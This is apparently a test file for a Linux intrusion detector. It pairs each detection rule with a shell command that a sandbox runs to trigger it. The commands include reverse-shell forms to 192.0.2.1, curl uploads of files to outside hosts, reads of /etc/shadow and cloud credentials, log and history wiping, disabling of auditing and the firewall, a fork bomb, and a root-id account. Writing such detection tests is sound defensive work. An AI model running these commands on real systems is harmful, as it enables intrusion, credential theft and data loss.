# SPDX-License-Identifier: MIT OR Apache-2.0
"""Each shipped rule fires through the kernel: one deed a rule, done in a sandbox over this machine. A rule without a deed fails. All of it is recorded:
a replay gives the same alerts."""
import json
import os
import platform

import rwatchtest
from sandbox import Sandbox

# Calls that no command makes, or none that is no exception.
NUMBERS = {
    'x86_64': {'bpf': 321, 'init_module': 175, 'userfaultfd': 323},
    'aarch64': {'bpf': 280, 'init_module': 105, 'userfaultfd': 282},
}[platform.machine()]

# What the deeds use.
#   as PATH ARGS: runs a harmless program that lies at PATH.      serve PATH COMMAND: a server at PATH runs COMMAND as its child.
#   dial PATH HOST PORT: the program at PATH connects.            append FILE: opens FILE for writing, adds nothing.
#   call NUMBER ARGUMENTS: a system call, by its number, of python3.
#   reads PATH FILE: the program at PATH (a copy of cat) reads FILE.   in_container COMMAND: in a cgroup as Docker makes them.
TOOLS = '''
put() { mkdir -p "${2%/*}"; cp --remove-destination "$1" "$2"; }
as() { put /bin/true "$1"; "$@"; }
serve() { put /bin/bash "$1"; "$1" -c "$2; true"; }
dial() { put /bin/bash "$1"; "$1" -c "exec 3<>/dev/tcp/$2/$3" 2>/dev/null; }
append() { for f in "$@"; do mkdir -p "${f%/*}"; : >>"$f"; done; }
reads() { put /bin/cat "$1"; mkdir -p "${2%/*}"; [ -e "$2" ] || echo secret >"$2"; "$1" "$2" >/dev/null; }
call() { /usr/bin/python3 -S -c '
import ctypes, sys
ctypes.CDLL(None).syscall(*(int(a, 0) if a[0].isdigit() else a.encode() for a in sys.argv[1:]))' "$@"; }
in_container() {
    local group own=$(grep -o '/rwatch-sandbox[^/]*' /proc/self/cgroup | head -n 1)
    for group in /proc/$PPID/root/sys/fs/cgroup{,/unified,/systemd}$own; do
        [ -d $group ] && mkdir -p $group/$BOX && echo $$ >$group/$BOX/cgroup.procs
    done
    "$@"
    for group in /proc/$PPID/root/sys/fs/cgroup{,/unified,/systemd}$own; do
        [ -d $group ] && echo $$ >$group/cgroup.procs && rmdir $group/$BOX
    done
}
BOX=docker-$(printf '%064d' 7).scope
cd /
'''

PYTHON = '/usr/bin/python3 -S -c'

# Runs itself again and again: nothing starts programs faster.
CHAIN = '''
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
int main(int argc, char **argv) {
    char left[16];
    snprintf(left, sizeof left, "%d", atoi(argv[1]) - 1);
    return argv[1][0] == '0' ? 0 : execl(argv[0], argv[0], left, (char *)0);
}
'''

# Children that do nothing: a small program's are made fast enough even where the machine has much else to do.
FORKS = '''
#include <sys/wait.h>
#include <unistd.h>
int main(void) {
    for (int i = 0; i < 900; ++i) {
        if (fork() == 0)
            _exit(0);
        wait(0);
    }
}
'''

# Becomes root without the right to: of a user namespace whose root is the host's, since a helper that is root says so.
NAMESPACE_ROOT = f"""{PYTHON} '
import os
ready, go = os.pipe(), os.pipe()
child = os.fork()
if child == 0:
    os.setresgid(65534, 65534, 65534)
    os.setresuid(65534, 65534, 65534)
    os.set_inheritable(ready[1], True)
    os.set_inheritable(go[0], True)
    os.execl("/usr/bin/python3", "python3", "-S", "-c", "import ctypes, os; ctypes.CDLL(None).unshare(0x10000000); os.write(%d, bytes(1)); os.read(%d, 1); os.setuid(0)" % (ready[1], go[0]))
os.read(ready[0], 1)
for name in ("uid_map", "gid_map"):
    with open("/proc/%d/%s" % (child, name), "w") as file:
        file.write("0 0 65536")
os.write(go[1], bytes(1))
os.waitpid(child, 0)
'"""

# Of the steps that are only counted: the rule that counts them.
COUNTED = {
    'Step, a file was fetched': 'Fetched program started',
    'Step, a file was made executable': 'Fetched program started',
    'Step, a program was started': 'Fetched program started',
}

DEEDS = {
    # Execution
    'Network service starts a shell': 'serve /usr/sbin/nginx "/bin/sh -c true"',
    'Program run from memory': f'''{PYTHON} "
import os
f = os.memfd_create('payload', 0)
os.write(f, open('/bin/true', 'rb').read())
os.execve('/proc/self/fd/%d' % f, ['payload'], {{}})"''',
    'Deleted program run': f'''cp /bin/true /tmp/gone; {PYTHON} "
import os
f = os.open('/tmp/gone', os.O_RDONLY)
os.unlink('/tmp/gone')
os.execve(f, ['gone'], {{}})"''',
    'Program run from a world-writable directory': 'as /dev/shm/payload',
    'Program run from a place without programs': 'as /usr/lib/.hidden/payload',
    'Encoded or downloaded text fed to a shell': 'bash -c "echo dHJ1ZQo= | base64 -d | sh"',
    'One-line program with a socket': f'''{PYTHON} "import socket; s = socket.socket(); s.connect_ex(('192.0.2.1', 4444)); '/bin/sh'"''',
    "Program with a kernel thread's name": 'exec -a "[kworker/9:9]" /bin/true',
    'Execute bit added to unpackaged file': 'touch /tmp/x; cp /bin/ls /tmp/x && chmod +x /tmp/x',
    'Fetched program started': '''put /bin/bash /usr/bin/curl; /usr/bin/curl -c ": >/opt/fetched"; cat /bin/true >/opt/fetched
chmod +x /opt/fetched; /opt/fetched''',
    # Persistence
    'Library preloaded into every program': 'append /etc/ld.so.preload',
    'Library search path changed': 'append /etc/ld.so.conf.d/00-own.conf',
    'Scheduled job changed': 'append /etc/cron.d/job',
    'Service schedules a job': 'put /bin/true /usr/bin/crontab; serve /usr/sbin/nginx "crontab -"',
    'Unit of systemd changed': 'append /etc/systemd/system/own.service',
    'Generator or shutdown hook of systemd changed': 'append /etc/systemd/system-generators/own',
    'Start-up or event script changed': 'append /etc/rc.local',
    'Shell start-up file changed': 'append /etc/profile.d/own.sh',
    "Package manager's hook changed": 'append /etc/apt/apt.conf.d/99own',
    'Kernel module installed': 'append /etc/modules-load.d/own.conf',
    'Account database changed': 'append /etc/passwd',
    'Account made or changed outside of a login': 'as /usr/sbin/useradd -m guest',
    "Account given root's id": 'as /usr/sbin/useradd -o -u 0 guest',
    "User added to an administrators' group": 'as /usr/sbin/usermod -aG sudo guest',
    'Login rules changed': 'append /etc/pam.d/own',
    "SSH server's settings changed": 'append /etc/ssh/sshd_config.d/own.conf',
    'Web service writes a script where it serves': 'mkdir -p /var/www/html; serve /usr/sbin/nginx "echo >/var/www/html/own.php"',
    'System program or library changed': 'append /usr/bin/own',
    # Privilege escalation
    'Set-user-ID bit set': 'cp /bin/true /opt/suid; chmod 4755 /opt/suid',
    'File capabilities set': 'as /usr/sbin/setcap cap_setuid+ep /opt/x',
    'Set-user-ID shell or program of one\'s own': f'''{PYTHON} "
import os
os.setresuid(65534, 0, 0)
os.execv('/bin/bash', ['bash', '-c', 'true'])"''',
    'Shell from within a program run by sudo': '''put /bin/bash /usr/bin/less; serve /usr/bin/sudo "less -c 'sh -c true; true'"''',
    'Repeated failures of su or sudo': 'put /bin/false /usr/bin/su; for i in {1..12}; do su; done; true',
    'Kernel told to run a program': 'mount --bind /etc/hostname /proc/sys/kernel/core_pattern; append /proc/sys/kernel/core_pattern',
    'Root taken by a process without the right to it': NAMESPACE_ROOT,
    'User namespace made by an unexpected program': 'setpriv --reuid 65534 --regid 65534 --clear-groups unshare -U true',
    'Kernel made to wait on memory': f'setpriv --reuid 65534 --regid 65534 --clear-groups /bin/bash -c "$(declare -f call); call {NUMBERS["userfaultfd"]} 0"',
    "Host's namespaces entered": 'nsenter -t $PPID -m true',
    'Disk mounted within a container': f'''in_container {PYTHON} "
import ctypes
ctypes.CDLL(None).mount(b'/dev/nosuch', b'/mnt', b'ext4', 0, 0)" $(cat /proc/self/cgroup)''',
    "Container runtime's socket used": f'''{PYTHON} "
import socket
server = socket.socket(socket.AF_UNIX)
server.bind('/run/docker.sock')
server.listen()
socket.socket(socket.AF_UNIX).connect('/run/docker.sock')"''',
    "Container with the host's rights started": 'as /usr/bin/docker run --privileged alpine',
    'Rights policy changed': 'append /etc/polkit-1/rules.d/00-own.rules',
    # Defense evasion
    'Log removed or emptied': 'append /var/log/auth.log; rm /var/log/auth.log',
    'Login records rewritten': 'append /var/log/wtmp',
    'Journal thrown away': 'as /usr/bin/journalctl --vacuum-time=1s',
    'Shell history wiped': 'append /root/.bash_history; rm /root/.bash_history',
    'Security service stopped': 'as /usr/bin/systemctl stop auditd.service',
    'Auditing switched off': 'as /usr/sbin/auditctl -e 0',
    'Mandatory access control switched off': 'as /usr/sbin/setenforce 0',
    'Firewall flushed': 'as /usr/sbin/nft flush ruleset',
    'Timestamps taken from or given to system files': 'touch -r /bin/ls /opt/new',
    'Immutable mark changed': 'as /usr/bin/chattr +i /opt/new',
    "Detector's own files changed": 'append /etc/rwatch/rules.d/own.yaml',
    'Settings of logging or auditing changed': 'append /etc/rsyslog.d/00-own.conf',
    'Process hidden by a mount': 'mount --bind /opt /proc/$PPID; umount /proc/$PPID',
    'Mount over a system directory': 'mount --bind /etc/hostname /etc/hosts; umount /etc/hosts',
    'Kernel module loaded or unloaded by hand': 'put /bin/true /usr/bin/kmod; exec -a insmod /usr/bin/kmod /opt/own.ko',
    'Kernel module loaded by an unexpected program': f'call {NUMBERS["init_module"]} nothing 0 nothing',
    'eBPF program loaded by an unexpected program': f'''{PYTHON} "
import ctypes
code = ctypes.create_string_buffer(bytes.fromhex('b7000000000000009500000000000000'))  # return 0
text = ctypes.create_string_buffer(b'GPL')
head = (ctypes.c_uint64 * 16)(1 | 2 << 32, ctypes.addressof(code), ctypes.addressof(text))
ctypes.CDLL(None).syscall({NUMBERS["bpf"]}, 5, head, 120)"''',
    'eBPF object of another program opened': f'''{PYTHON} "
import ctypes, os
bpf = lambda command, *words: ctypes.CDLL(None).syscall({NUMBERS["bpf"]}, command, (ctypes.c_uint32 * 30)(*words), 120)
own = bpf(0, 2, 4, 4, 1)  # an array
info = open(f'/proc/self/fdinfo/{{own}}').read()
bpf(14, int(info.split('map_id:')[1].split()[0]))"''',
    'Node of a disk made by an unexpected program': 'mknod /opt/disk b 8 0',
    'Directory made to be overlooked': 'mkdir /opt/...',
    'Addresses of a program made predictable': 'setarch -R true',
    # Credential access
    'Sensitive file read': 'cat /etc/shadow >/dev/null',
    'Sensitive file changed': 'append /root/.ssh/authorized_keys',
    'Hard link to sensitive file': 'append /etc/sudoers; ln /etc/sudoers /etc/sudoers.link',
    "Root's home accessed": 'mkdir -p /root/own; serve /usr/sbin/nginx "echo >/root/own/notes"',
    'Cloud or tool credential read': 'reads /usr/bin/cat /root/.aws/credentials',
    'Kerberos keys read': 'reads /usr/bin/cat /etc/krb5.keytab',
    'Memory of a process read': 'head -c 0 /proc/self/mem; dd if=/proc/self/mem of=/dev/null count=0',
    'Environment of a process read': 'cat /proc/self/environ >/dev/null',
    'Files searched for secrets': 'as /usr/bin/grep -rni password /var',
    'Network traffic recorded': 'as /usr/bin/tcpdump -i any -w /tmp/x',
    'Agent of ssh used by another program': f'''mkdir -p /tmp/ssh-XXown; {PYTHON} "
import socket
server = socket.socket(socket.AF_UNIX)
server.bind('/tmp/ssh-XXown/agent.1')
server.listen()
socket.socket(socket.AF_UNIX).connect('/tmp/ssh-XXown/agent.1')"''',
    'Running process taken hold of': f'''sleep 5 & {PYTHON} "
import ctypes
ctypes.CDLL(None).ptrace(0x4206, $!, 0, 0)"; kill $!''',
    'Raw socket opened by an unexpected program': f'{PYTHON} "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"',
    # Discovery
    'Outbound port scan': 'for p in {61001..61040}; do (exec 3<>/dev/tcp/127.0.0.1/$p) 2>/dev/null; done; true',
    'Outbound host sweep': 'for h in {1..40}; do (exec 3<>/dev/tcp/127.0.9.$h/61000) 2>/dev/null; done; true',
    'Burst of discovery commands': 'whoami; id; uname -a; df; ps; hostname; arch; who; lscpu; lsblk; free; groups',
    'Network service looks around': 'serve /usr/sbin/nginx id',
    'Search for ways to root': 'as /usr/bin/find / -perm -4000 -type f',
    "Kernel's addresses read": 'head -n 1 /proc/kallsyms',
    'Network scanner run': 'as /usr/bin/nmap -sS 192.0.2.0/24',
    # Lateral movement
    'Network service logs in elsewhere': 'put /bin/true /usr/bin/ssh; serve /usr/sbin/nginx "ssh root@192.0.2.1"',
    'Network service reaches for remote administration': 'dial /usr/sbin/nginx 192.0.2.1 22',
    'Known hosts read': 'reads /usr/bin/cat /root/.ssh/known_hosts',
    'Password on a command line for ssh': 'as /usr/bin/sshpass -p x ssh root@192.0.2.1',
    # Command and control
    'Shell on a network connection': f'''{PYTHON} "
import os, socket
s = socket.socket()
os.dup2(s.fileno(), 0)
os.execv('/bin/sh', ['sh'])"''',
    'Interactive shell on pipes': 'true | sh -i 2>&1 | cat',
    'Shell connects to the network': 'bash -c "exec 3<>/dev/tcp/192.0.2.1/4444"',
    'Netcat hands a connection to a program': 'as /usr/bin/nc.traditional -e /bin/sh 192.0.2.1 4444',
    'Network service fetches a file': 'put /bin/true /usr/bin/wget; serve /usr/sbin/nginx "wget http://192.0.2.1/a"',
    'Program of nowhere connects to the internet': 'dial /tmp/caller 8.8.8.8 443',
    'Tunnel or relay started': 'as /usr/local/bin/chisel client 192.0.2.1:8080 R:socks',
    'Remote or dynamic tunnel of ssh': 'as /usr/bin/ssh -N -R 2222:localhost:22 u@192.0.2.1',
    "Cloud's metadata service asked": 'dial /usr/bin/curl 169.254.169.254 80',
    # Collection and exfiltration
    'Secrets packed into an archive': 'tar cf /tmp/a.tar /root/.ssh 2>/dev/null',
    'Archive encrypted with a password on the command line': 'as /usr/bin/zip -rP x /tmp/a.zip /srv',
    'File sent with curl or wget': 'as /usr/bin/curl -T /etc/hostname http://192.0.2.1/',
    'Data sent to a public drop': 'as /usr/bin/curl --upload-file a https://transfer.sh/a',
    'Tool to copy into a cloud started': 'as /usr/bin/rclone copy /srv remote:x',
    'Web service dumps a database': 'put /bin/true /usr/bin/mysqldump; serve /usr/sbin/nginx "mysqldump all"',
    # Impact
    'Ransomware suffix': 'touch /tmp/one.enc',
    'Mass file rewriting': 'mkdir /opt/w; touch /opt/w/{1..60}; perl -e \'for (glob "/opt/w/*") { open my $f, "+<", $_ or die }\'',
    'Many documents removed by one program': 'mkdir /opt/docs; touch /opt/docs/{1..60}.docx; perl -e \'unlink glob "/opt/docs/*"\'',
    'Fork bomb': 'f() { [ $1 = 0 ] || { f $(($1 - 1)) & f $(($1 - 1)) & wait; }; }; f 8',
    'Forks that end at once': f"""gcc -static -O1 -x c -o /opt/forks - <<'END'
{FORKS}END
/opt/forks""",
    'Rapid exec': 'for i in {1..300}; do /bin/true; done',
    'Rapid exec by a process tree': f"""gcc -static -O1 -x c -o /opt/chain - <<'END'
{CHAIN}END
for i in 1 2 3 4; do /opt/chain 700 & done; wait""",
    'Disk written past its file system': 'append /dev/sda',
    'Recursive removal of a system directory': 'as /usr/bin/rm -rf /home',
    'Files encrypted one by one': 'put /bin/true /usr/bin/openssl; for i in {1..25}; do openssl enc -aes-256-cbc -pass file:k -in a -out b; done',
    'Ransom note': 'touch /opt/HOW_TO_DECRYPT_FILES.txt',
    'Snapshots or backups removed': 'as /usr/sbin/zfs destroy -r tank@daily',
    'Miner of coins': 'as /opt/worker -o stratum+tcp://192.0.2.1:3333',
    'Processor registers written': 'append /dev/cpu/0/msr',
    'Boot files changed': 'append /boot/own.cfg',
    'Account locked or removed outside of a login': 'as /usr/sbin/usermod -L guest',
    'Network service shuts the machine down': 'put /bin/true /usr/bin/systemctl; serve /usr/sbin/nginx "systemctl reboot"',
}


class Pack(rwatchtest.Case):
    def test_every_rule_fires(self):
        daemon = self.start()
        recording = rwatchtest.Recording(daemon)
        rules = {detector['name'] for detector in daemon.ctl_json('detectors')}
        self.assertEqual(sorted(rules), sorted({**DEEDS, **COUNTED}), 'each rule has a deed, and each deed a rule')
        if not os.path.exists('/proc/modules'):
            print('left out: Kernel module loaded by an unexpected program: this kernel has no modules, and so no such calls')
            del DEEDS['Kernel module loaded by an unexpected program']
        sandbox = Sandbox()
        self.addCleanup(sandbox.stop)
        said = {rule: sandbox.run(TOOLS + deed) for rule, deed in DEEDS.items()}
        # A sandbox is unlike the machine in nothing but this: its unit's name tells its alerts from those of others.
        rwatchtest.wait_until(lambda: not self.missing(daemon, sandbox), 5 * rwatchtest.SLOW,
                              lambda: 'alerts:\n' + '\n'.join(f'{rule}: {said[rule]!r}' for rule in self.missing(daemon, sandbox)))
        recording.close()

    @staticmethod
    def missing(daemon, sandbox):
        told = {alert['rule'] for _, alert in list(daemon.alerts) if sandbox.unit in json.dumps(alert)}
        return sorted(set(DEEDS) - told)


if __name__ == '__main__':
    rwatchtest.main()
